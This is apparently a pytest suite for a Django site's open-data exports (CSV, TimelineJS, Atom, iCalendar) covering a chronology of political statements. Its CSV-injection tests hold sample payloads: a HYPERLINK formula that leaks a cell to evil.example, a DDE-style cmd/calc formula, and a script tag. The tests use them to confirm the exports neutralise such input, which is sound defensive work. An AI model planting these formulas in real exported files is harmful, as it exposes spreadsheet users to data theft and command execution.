"""Open-data exports of any filtered view (CSV, TimelineJS JSON, Atom, iCalendar), each read by a real consumer."""

import csv
import datetime as dt
import io
import json
import re
from urllib.parse import urlsplit

import feedparser
import icalendar
import jsonschema
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from timeline import exports, feeds
from timeline.exports import CSV_COLUMNS, FORMULA_TRIGGERS
from timeline.models import Statement

from .factories import make_citation, make_event, make_source, make_speaker, make_statement, make_topic

EXPORTS = ["/export.csv", "/export/timelinejs.json", "/feeds/statements.atom", "/feeds/events.ics"]


def seed(key: str) -> Statement:
    return Statement.objects.get(seed_key=key)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(client, params: dict | None = None) -> list[dict]:
    response = client.get("/export.csv", params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8"), newline="")))


# --- every export ----------------------------------------------------------------


@pytest.mark.parametrize("url", EXPORTS)
@pytest.mark.parametrize(
    ("params", "name"), [({"from": "not a date at all"}, "from"), ({"speaker": "nobody"}, "speaker")]
)
def test_an_unreadable_filter_is_a_400_with_a_one_line_reason(client, db, url, params, name):
    """An export never silently drops a filter (the page may): it refuses, saying which and why, in one line."""
    response = client.get(url, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    text = response.content.decode()
    assert text.count("\n") == 1
    assert text.startswith(f"Invalid filter: {name}: ")


def test_the_chronology_links_every_export_with_its_filters(client, seeded):
    """The data links sit with the results and carry the filters in force."""
    page = client.get("/", {"speaker": "vladimir-putin", "topic": "meeting", "q": ""}).content.decode()
    links = re.search(r'<p class="data-links">(.*?)</p>', page, re.DOTALL).group(1)
    hrefs = [href.replace("&amp;", "&") for href in re.findall(r'href="([^"]+)"', links)]
    for url in EXPORTS:
        assert f"{url}?speaker=vladimir-putin&topic=meeting" in hrefs


def test_the_data_links_follow_the_filters_in_an_htmx_swap(client, seeded):
    """The results fragment that htmx swaps in carries the links for the new filters."""
    fragment = client.get("/", {"side": "us"}, headers={"HX-Request": "true", "HX-Target": "results"})
    assert 'href="/export.csv?side=us"' in fragment.content.decode()


# --- CSV -------------------------------------------------------------------------


def test_csv_has_one_row_per_statement_and_citation_with_absolute_links(client, db):
    """A statement cited by two sources is two rows; links are absolute and land on the highlighted passage."""
    statement = make_statement(text="The leaders said they would meet soon")
    second = make_source(publisher="Second Wire")
    make_citation(statement=statement, source=second, passage="The leaders said they would meet soon")
    make_statement(text="A second statement with only one source", speaker=statement.speaker)
    rows = csv_rows(client)
    assert list(rows[0].keys()) == list(CSV_COLUMNS)
    assert len(rows) == 3
    cited = [row for row in rows if row["id"] == str(statement.pk)]
    assert {row["publisher"] for row in cited} == {"Test Wire", "Second Wire"}
    for row in cited:
        assert row["source_url"].startswith("http://testserver/sources/")
        assert row["source_url"].endswith(f"/#s{statement.pk}")
        assert row["statement_url"] == f"http://testserver/statements/{statement.pk}/"
        assert row["passage"] == "The leaders said they would meet soon"
        assert int(row["end"]) - int(row["start"]) == len(row["passage"])


def test_csv_is_utf8_and_keeps_cyrillic_quotes_commas_and_newlines(client, db):
    """Words with Cyrillic, double quotes, commas and line breaks come back exactly through the csv module."""
    text = 'Путин сказал: "мы готовы, как только\nони будут готовы" — и всё'
    statement = make_statement(text=text, summary="Готовность, «кавычки»", speaker=make_speaker(name="Владимир Путин"))
    (row,) = csv_rows(client)
    assert row["text"] == text
    assert row["summary"] == "Готовность, «кавычки»"
    assert row["speaker"] == "Владимир Путин"
    assert row["passage"] == text
    assert row["id"] == str(statement.pk)


def test_csv_dates_are_at_precision_and_fields_filled(client, seeded):
    """Each row gives the date at its precision, with the speaker, side, kind, topics and event."""
    rows = {row["id"]: row for row in csv_rows(client)}
    trump = rows[str(seed("trump-2016-10-meet-before-inauguration").pk)]
    assert (trump["date"], trump["date_precision"]) == ("2016-10", "month")
    assert (trump["speaker"], trump["speaker_slug"], trump["side"]) == ("Donald Trump", "donald-trump", "us")
    assert trump["kind"] == "paraphrase"
    assert trump["topics"] == "meeting"
    assert (trump["event"], trump["event_slug"]) == ("2016 US presidential campaign", "2016-us-election-campaign")
    kremlin = rows[str(seed("kremlin-2016-no-favourites").pk)]
    assert (kremlin["date"], kremlin["date_precision"]) == ("2016", "year")


def test_csv_honours_the_filters_and_leaves_drafts_out(client, seeded):
    """The same filters as the chronology select the rows; drafts are never exported."""
    Statement.objects.filter(seed_key="putin-2016-10-equal-partner").update(status=Statement.Status.DRAFT)
    rows = csv_rows(client, {"speaker": "vladimir-putin", "to": "Nov 2016"})
    expected = Statement.objects.published().filter(speaker__slug="vladimir-putin", date__lte=dt.date(2016, 11, 30))
    assert {row["id"] for row in rows} == {str(pk) for pk in expected.values_list("pk", flat=True)}
    assert str(seed("putin-2016-10-equal-partner").pk) not in {row["id"] for row in rows}
    assert {row["speaker_slug"] for row in rows} == {"vladimir-putin"}


def test_csv_runs_a_constant_number_of_queries(client, db):
    """Guards against N+1: ten statements cost the same queries as two."""
    speaker = make_speaker()
    for _ in range(2):
        make_statement(speaker=speaker)
    with CaptureQueriesContext(connection) as few:
        csv_rows(client)
    for _ in range(8):
        make_statement(speaker=speaker)
    with CaptureQueriesContext(connection) as many:
        assert len(csv_rows(client)) == 10
    assert len(many) == len(few)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
    "+1 and more talks",
    "-2 degrees in Moscow",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed words",
    "'Tis the season, Putin said",
]
# The README's rule for getting the exact words back: remove the quote added at the start of a text cell and
# after each semicolon, tab or line break in it.
ADDED_QUOTE = re.compile(r"(?:^|(?<=[;\t\r\n]))'")


def unquoted(cell: str) -> str:
    return ADDED_QUOTE.sub("", cell)


def test_csv_cells_a_spreadsheet_would_read_as_formulas_begin_with_a_quote(client, db):
    """OWASP's CSV-injection rule: a text cell beginning with =, +, -, @, tab or carriage return is prefixed with
    a single quote, so Excel, LibreOffice or Sheets show it as text instead of running it. A cell already
    beginning with a quote gets one too, so that the README's rule gives the words back exactly."""
    for n, words in enumerate(FORMULAS):
        make_statement(
            text=words,
            summary=words,
            speaker=make_speaker(name=words, slug=f"formula-{n}"),
            source=make_source(title=words, publisher=words, original_text=f"Opening line.\n\n{words}\n\nEnd.\n"),
        )
    rows = csv_rows(client)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        statement = Statement.objects.get(pk=row["id"])
        citation = statement.citations.get()
        for column, words in (
            ("text", statement.text),
            ("summary", statement.summary),
            ("speaker", statement.speaker.name),
            ("source_title", citation.source.title),
            ("publisher", citation.source.publisher),
            ("passage", citation.passage),
        ):
            assert not row[column].startswith(FORMULA_TRIGGERS[:-1]), (column, row[column])
            assert row[column].startswith("'") == words.startswith(FORMULA_TRIGGERS), (column, row[column])
            assert unquoted(row[column]) == words
        assert row["id"].isdigit()
        assert row["start"].isdigit()
    assert {unquoted(row["text"]) for row in rows} == set(FORMULAS)


def test_csv_keeps_ordinary_words_as_they_are(client, db):
    """Honest data stays readable: words without a formula character where a cell could begin are not touched."""
    words = 'We are ready — "at any moment" — to meet; 1 + 1 = 2, @ noon,\nsaid -- Putin'
    make_statement(text=words, summary="Ready to meet", speaker=make_speaker(name="Vladimir Putin"))
    (row,) = csv_rows(client)
    assert (row["text"], row["summary"], row["speaker"], row["passage"]) == (
        words,
        "Ready to meet",
        "Vladimir Putin",
        words,
    )


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_csv_cell_begins_a_formula_after_any_separator_a_spreadsheet_may_split_on(client, db, separator):
    """Words holding a separator and then a formula (`a;=HYPERLINK(…)`) cannot start a formula cell, whichever
    separator the spreadsheet reads the file with (a semicolon in many European locales, Russian among them):
    text cells are quoted, and a quote goes before a formula character after a semicolon, tab or line break."""
    words = 'Agreed,=HYPERLINK("http://evil.example");+1\t@SUM(A1) and\n-1 too'
    make_statement(text=words, summary=f"x{separator}=1+1")
    raw = body(client.get("/export.csv")).decode()
    cells = [cell for row in csv.reader(io.StringIO(raw, newline=""), delimiter=separator) for cell in row]
    assert len(cells) > 1
    for cell in cells:
        assert not cell.startswith(FORMULA_TRIGGERS[:-1]), cell
    (row,) = csv_rows(client)
    assert (unquoted(row["text"]), unquoted(row["summary"])) == (words, f"x{separator}=1+1")


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n;, aZ\"\0"), max_size=30))
def test_the_formula_rule_is_reversible_and_leaves_no_formula_where_a_cell_may_begin(words):
    """For any text: after the rule, no place where a spreadsheet may begin a cell holds a formula character,
    and removing the added quotes (the README's rule) gives the text back exactly."""
    safe = exports.spreadsheet_safe(words)
    assert unquoted(safe) == words
    for boundary in re.finditer(r"(?:^|(?<=[;\t\r\n]))", safe):
        assert not safe[boundary.start() :].startswith(FORMULA_TRIGGERS[:-1])


# --- Bounded parts ---------------------------------------------------------------


def export_ids(url: str, response) -> list[int]:
    """The statement ids an export response holds, in order, whatever its format."""
    if url == "/export.csv":
        rows = csv.DictReader(io.StringIO(body(response).decode(), newline=""))
        return list(dict.fromkeys(int(row["id"]) for row in rows))
    data = json.loads(body(response))
    jsonschema.validate(data, TIMELINEJS_SCHEMA)
    return [int(event["unique_id"][1:]) for event in data["events"]]


def next_link(response) -> str | None:
    links = dict((rel, url) for url, rel in re.findall(r'<([^>]+)>; rel="(\w+)"', response.get("Link", "")))
    return links.get("next")


@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
def test_an_export_comes_in_streamed_parts_each_linking_to_the_next(client, db, monkeypatch, url):
    """However many statements match, one response holds at most EXPORT_PAGE_SIZE of them, streamed; its `Link`
    header names the next part (filters kept), and following the links gives every statement once, in order."""
    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 2)
    speaker = make_speaker()
    expected = [
        make_statement(speaker=speaker, date=dt.date(2016, 1, day), text=f"The leaders said they would meet {day}")
        for day in (5, 1, 3, 2, 4)
    ]
    make_statement(date=dt.date(2016, 1, 6))  # another speaker's, filtered out
    expected.sort(key=lambda statement: statement.date)
    seen, link, parts = [], f"{url}?speaker={speaker.slug}&q=", 0
    while link:
        response = client.get(link)
        assert response.status_code == 200
        assert response.streaming
        ids = export_ids(url, response)
        assert 1 <= len(ids) <= 2
        seen += ids
        parts += 1
        link = next_link(response)
        if link:
            assert link.startswith(f"http://testserver{url}?speaker={speaker.slug}&page=")
    assert seen == [statement.pk for statement in expected]
    assert parts == 3
    assert f'<http://testserver{url}?speaker={speaker.slug}&page=2>; rel="prev"' in response["Link"]


@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
def test_an_export_newest_first_comes_in_parts_too(client, db, monkeypatch, url):
    """order=-date is kept in the links, and the parts run newest first."""
    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 2)
    statements = [make_statement(date=dt.date(2016, 1, day)) for day in (1, 2, 3)]
    first = client.get(url, {"order": "-date"})
    assert export_ids(url, first) == [statements[2].pk, statements[1].pk]
    assert next_link(first) == f"http://testserver{url}?order=-date&page=2"
    assert export_ids(url, client.get(next_link(first))) == [statements[0].pk]


@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json", "/feeds/events.ics"])
def test_a_part_past_the_last_is_a_404_and_a_bad_page_a_400(client, db, url):
    """page must be a whole number from 1; a part past the last is not found; an empty first part is a valid,
    empty file."""
    make_statement(event=make_event())
    assert client.get(url, {"page": "2"}).status_code == 404
    for page in ("0", "-1", "two", "1.5", "9" * 50):
        response = client.get(url, {"page": page})
        assert response.status_code == 400
        assert response.content.decode().startswith("Invalid parameter: page: ")
    assert client.get(url, {"page": "1", "side": "us"}).status_code == 200


@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
def test_a_part_takes_the_same_queries_however_many_statements_there_are(client, db, monkeypatch, url):
    """Guards against N+1 and against reading the whole corpus: a part of 3 from 4 statements or from 20 costs
    the same queries."""
    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 3)
    speaker = make_speaker()
    for _ in range(4):
        make_statement(speaker=speaker, topics=(make_topic(),))
    with CaptureQueriesContext(connection) as few:
        assert len(export_ids(url, client.get(url))) == 3
    for _ in range(16):
        make_statement(speaker=speaker, topics=(make_topic(),))
    with CaptureQueriesContext(connection) as many:
        assert len(export_ids(url, client.get(url, {"page": "2"}))) == 3
    assert len(many) == len(few)


# --- TimelineJS ----------------------------------------------------------------

# From Knight Lab's published rules (https://timeline.knightlab.com/docs/json-format.html): a timeline is an
# object with a required `events` array of slides and an optional `title` slide (and `eras`, `scale`); an event
# slide requires `start_date`; a date object requires `year`, with `month` 1–12 and `day` 1–31 optional (a day
# means nothing without its month); `text` holds `headline` and `text`, both strings (HTML allowed).
_NUMBER = {"anyOf": [{"type": "integer"}, {"type": "string", "pattern": r"^-?\d+$"}]}
TIMELINEJS_DATE = {
    "type": "object",
    "required": ["year"],
    "properties": {
        "year": _NUMBER,
        "month": {
            "anyOf": [
                {"type": "integer", "minimum": 1, "maximum": 12},
                {"type": "string", "pattern": r"^(0?[1-9]|1[0-2])$"},
            ]
        },
        "day": {
            "anyOf": [
                {"type": "integer", "minimum": 1, "maximum": 31},
                {"type": "string", "pattern": r"^(0?[1-9]|[12]\d|3[01])$"},
            ]
        },
        "hour": _NUMBER,
        "minute": _NUMBER,
        "second": _NUMBER,
        "millisecond": _NUMBER,
        "display_date": {"type": "string"},
        "format": {"type": "string"},
    },
    "dependentRequired": {"day": ["month"]},
    "additionalProperties": False,
}
TIMELINEJS_TEXT = {
    "type": "object",
    "properties": {"headline": {"type": "string"}, "text": {"type": "string"}},
    "additionalProperties": False,
}
TIMELINEJS_SLIDE = {
    "type": "object",
    "properties": {
        "start_date": TIMELINEJS_DATE,
        "end_date": TIMELINEJS_DATE,
        "text": TIMELINEJS_TEXT,
        "media": {"type": "object", "required": ["url"]},
        "group": {"type": "string"},
        "display_date": {"type": "string"},
        "background": {"type": "object"},
        "autolink": {"type": "boolean"},
        "unique_id": {"type": "string"},
    },
    "additionalProperties": False,
}
TIMELINEJS_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": ["events"],
    "properties": {
        "title": TIMELINEJS_SLIDE,
        "events": {"type": "array", "items": {**TIMELINEJS_SLIDE, "required": ["start_date"]}},
        "eras": {"type": "array"},
        "scale": {"enum": ["human", "cosmological"]},
    },
    "additionalProperties": False,
}


def timelinejs(client, params: dict | None = None) -> dict:
    response = client.get("/export/timelinejs.json", params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    data = json.loads(body(response))
    jsonschema.validate(data, TIMELINEJS_SCHEMA, format_checker=jsonschema.FormatChecker())
    return data


def test_timelinejs_export_follows_knight_labs_format(client, seeded):
    """TimelineJS loads the file unmodified: it validates against the format's rules, one slide per statement."""
    data = timelinejs(client)
    assert len(data["events"]) == Statement.objects.published().count()
    ids = [event["unique_id"] for event in data["events"]]
    assert len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"s\d+", unique_id) for unique_id in ids)


@pytest.mark.parametrize(
    ("key", "date"),
    [
        ("kremlin-2016-no-favourites", {"year": "2016"}),
        ("trump-2016-10-meet-before-inauguration", {"year": "2016", "month": "10"}),
        ("putin-2016-11-09-campaign-rhetoric", {"year": "2016", "month": "11", "day": "9"}),
    ],
)
def test_timelinejs_dates_give_month_and_day_only_at_the_statements_precision(client, seeded, key, date):
    """A month-precision date has no day, a year-precision date neither month nor day (TimelineJS would show
    1 January otherwise)."""
    statement = seed(key)
    (event,) = [e for e in timelinejs(client)["events"] if e["unique_id"] == f"s{statement.pk}"]
    start = {name: value for name, value in event["start_date"].items() if name != "display_date"}
    assert start == date
    assert event["start_date"]["display_date"] == statement.date_display
    assert event["text"]["headline"] == f"{statement.speaker.name}, {statement.date_display}"
    assert event["group"] == statement.speaker.name


def test_timelinejs_text_is_escaped_and_links_to_the_highlighted_passage(client, db):
    """The words are HTML-escaped into the slide, and link back to the passage on our site."""
    words = 'Tom & Jerry said "<script>alert(1)</script>" was fine'
    statement = make_statement(text=words, speaker=make_speaker(name="O'Brien <b>"))
    (event,) = timelinejs(client)["events"]
    text = event["text"]["text"]
    assert "<script>" not in text
    assert "Tom &amp; Jerry said &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot; was fine" in text
    assert "<b>" not in event["text"]["headline"]
    citation = statement.citations.get()
    assert f'href="http://testserver{citation.get_absolute_url()}"' in text
    assert urlsplit(citation.get_absolute_url()).fragment == f"s{statement.pk}"


def test_timelinejs_honours_the_filters(client, seeded):
    """The same filters as the chronology select the slides."""
    data = timelinejs(client, {"side": "us"})
    expected = Statement.objects.published().filter(speaker__side="us")
    assert {event["unique_id"] for event in data["events"]} == {
        f"s{pk}" for pk in expected.values_list("pk", flat=True)
    }
    assert data["events"]


# --- Atom ----------------------------------------------------------------------


def atom(client, params: dict | None = None) -> feedparser.FeedParserDict:
    response = client.get("/feeds/statements.atom", params or {})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    feed = feedparser.parse(response.content)
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    return feed


def test_atom_feed_is_valid_with_one_entry_per_published_statement(client, seeded):
    """Feed readers get a well-formed Atom 1.0 feed, links absolute, drafts left out."""
    draft = make_statement(status=Statement.Status.DRAFT, summary="A draft nobody may see")
    feed = atom(client)
    assert len(feed.entries) == Statement.objects.published().count()
    assert feed.feed.link == "http://testserver/"
    assert all(entry.link.startswith("http://testserver/statements/") for entry in feed.entries)
    assert draft.get_absolute_url() not in {urlsplit(entry.link).path for entry in feed.entries}
    putin = seed("putin-2016-11-09-campaign-rhetoric")
    (entry,) = [e for e in feed.entries if e.link == f"http://testserver{putin.get_absolute_url()}"]
    assert entry.title == f"Vladimir Putin, 9 Nov 2016: {putin.summary}"
    assert entry.author == "Vladimir Putin"
    assert f"http://testserver{putin.citations.get().get_absolute_url()}" in entry.summary
    assert entry.id == entry.link


def test_atom_entries_are_newest_first_by_publication_or_update(client, db):
    """A feed reader sees what was published or corrected most recently at the top, whatever its date."""
    old_news = make_statement(date=dt.date(2018, 12, 20))
    fresh = make_statement(date=dt.date(2016, 1, 5))
    middle = make_statement(date=dt.date(2017, 6, 1))
    now = timezone.now()
    for statement, age in ((old_news, 3), (fresh, 1), (middle, 2)):
        Statement.objects.filter(pk=statement.pk).update(updated_at=now - dt.timedelta(days=age))
    links = [urlsplit(entry.link).path for entry in atom(client).entries]
    assert links == [fresh.get_absolute_url(), middle.get_absolute_url(), old_news.get_absolute_url()]


def test_atom_feed_honours_the_filters(client, seeded):
    """A feed of one speaker's statements holds those only, and says so in its title and link."""
    feed = atom(client, {"speaker": "sergey-lavrov"})
    assert {entry.author for entry in feed.entries} == {"Sergey Lavrov"}
    assert len(feed.entries) == Statement.objects.published().filter(speaker__slug="sergey-lavrov").count()
    assert "Sergey Lavrov" in feed.feed.title
    assert feed.feed.link == "http://testserver/?speaker=sergey-lavrov"


# --- iCalendar -------------------------------------------------------------------


def calendar(client, params: dict | None = None) -> list[icalendar.Event]:
    response = client.get("/feeds/events.ics", params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    parsed = icalendar.Calendar.from_ical(response.content)
    assert parsed["VERSION"] == "2.0"
    assert parsed["PRODID"]
    return list(parsed.walk("VEVENT"))


def test_calendar_has_an_all_day_event_per_event_with_published_statements(client, seeded):
    """One VEVENT per event with published statements: its day (all-day), name, link and stable id."""
    events = calendar(client)
    expected = {s.event for s in Statement.objects.published().filter(event__isnull=False).select_related("event")}
    assert len(events) == len(expected)
    by_url = {str(vevent["URL"]): vevent for vevent in events}
    for event in expected:
        vevent = by_url[f"http://testserver/events/{event.slug}/"]
        start = vevent.decoded("DTSTART")
        assert start == event.date
        assert not isinstance(start, dt.datetime)
        assert vevent.decoded("DTEND") == event.date + dt.timedelta(days=1)
        assert str(vevent["SUMMARY"]) == event.name
        assert vevent["DTSTAMP"]
    assert len({str(vevent["UID"]) for vevent in events}) == len(events)


def test_calendar_uids_are_stable_across_requests_and_renames(client, seeded):
    """A calendar app updates an event rather than duplicating it: its UID does not change, even if renamed."""
    before = {str(vevent["URL"]).split("/")[-2]: str(vevent["UID"]) for vevent in calendar(client)}
    call = Statement.objects.get(seed_key="trump-office-2016-11-14-strong-relationship").event
    call.slug, call.name = "the-call", "The call"
    call.save()
    after = {str(vevent["URL"]).split("/")[-2]: str(vevent["UID"]) for vevent in calendar(client)}
    assert after["the-call"] == before["putin-trump-call-2016-11-14"]
    assert set(after.values()) == set(before.values())


def test_calendar_description_lists_who_said_what(client, db):
    """The description names each matching speaker with their words."""
    event = make_event(name="A phone call", date=dt.date(2016, 11, 14))
    make_statement(event=event, speaker=make_speaker(name="Vladimir Putin"), text="We agreed to meet soon")
    make_statement(event=event, speaker=make_speaker(name="Donald Trump", side="us"), text="A great call, ½ hour")
    (vevent,) = calendar(client)
    description = str(vevent["DESCRIPTION"])
    assert "Vladimir Putin (quote): “We agreed to meet soon”" in description
    assert "Donald Trump (quote): “A great call, ½ hour”" in description


def test_calendar_honours_the_filters_and_leaves_drafts_out(client, db):
    """An event is listed only for published statements that match the filters."""
    putin, trump = make_speaker(name="Putin"), make_speaker(name="Trump", side="us")
    shared, trump_only, draft_only = (make_event(name=name) for name in ("Shared", "Trump only", "Draft only"))
    make_statement(event=shared, speaker=putin, text="Putin at the shared event")
    make_statement(event=shared, speaker=trump, text="Trump at the shared event")
    make_statement(event=trump_only, speaker=trump)
    make_statement(event=draft_only, speaker=putin, status=Statement.Status.DRAFT)
    assert {str(v["SUMMARY"]) for v in calendar(client)} == {"Shared", "Trump only"}
    (vevent,) = calendar(client, {"speaker": putin.slug})
    assert str(vevent["SUMMARY"]) == "Shared"
    assert "Trump at the shared event" not in str(vevent["DESCRIPTION"])


def test_calendar_quotes_the_first_accounts_of_an_event_and_links_to_the_rest(client, db, monkeypatch):
    """An event with many accounts lists the first ACCOUNTS_PER_EVENT, oldest first, and says how many more
    there are with a link to the chronology of that event (filters kept): the file stays small."""
    monkeypatch.setattr(feeds, "ACCOUNTS_PER_EVENT", 2)
    event = make_event(name="A summit", slug="summit")
    speaker = make_speaker(name="Vladimir Putin")
    for day in (4, 1, 3, 2):
        make_statement(event=event, speaker=speaker, date=dt.date(2016, 1, day), text=f"Words said on day {day}")
    latest = Statement.objects.filter(event=event).order_by("-updated_at").first()
    (vevent,) = calendar(client, {"speaker": speaker.slug})
    description = str(vevent["DESCRIPTION"])
    assert "Words said on day 1" in description
    assert "Words said on day 2" in description
    assert "day 3" not in description
    assert "day 4" not in description
    assert description.endswith(f"… and 2 more: http://testserver/?speaker={speaker.slug}&event=summit")
    assert vevent.decoded("DTSTAMP") == latest.updated_at.replace(microsecond=0)


def test_calendar_comes_in_parts_of_the_newest_events(client, db, monkeypatch):
    """A calendar holds at most CALENDAR_EVENTS events, newest first, and links to the next part."""
    monkeypatch.setattr(feeds, "CALENDAR_EVENTS", 2)
    for year in (2016, 2018, 2017):
        make_statement(event=make_event(name=f"Event of {year}", date=dt.date(year, 5, 1)))
    response = client.get("/feeds/events.ics")
    assert {str(vevent["SUMMARY"]) for vevent in calendar(client)} == {"Event of 2018", "Event of 2017"}
    assert next_link(response) == "http://testserver/feeds/events.ics?page=2"
    assert [str(vevent["SUMMARY"]) for vevent in calendar(client, {"page": "2"})] == ["Event of 2016"]


def test_calendar_takes_the_same_queries_however_many_events_and_accounts(client, db):
    """Guards against N+1: two events with one account each cost what six events with three each cost."""

    def add_events(count: int, accounts: int) -> None:
        for _ in range(count):
            event = make_event()
            for _ in range(accounts):
                make_statement(event=event)

    add_events(2, 1)
    with CaptureQueriesContext(connection) as few:
        assert len(calendar(client)) == 2
    add_events(4, 3)
    with CaptureQueriesContext(connection) as many:
        assert len(calendar(client)) == 6
    assert len(many) == len(few)


def test_atom_feed_holds_at_most_feed_length_entries(client, db, monkeypatch):
    """The feed is bounded: only the FEED_LENGTH most recently changed statements, whatever the corpus."""
    monkeypatch.setattr(feeds, "FEED_LENGTH", 3)
    for _ in range(5):
        make_statement()
    assert len(atom(client).entries) == 3
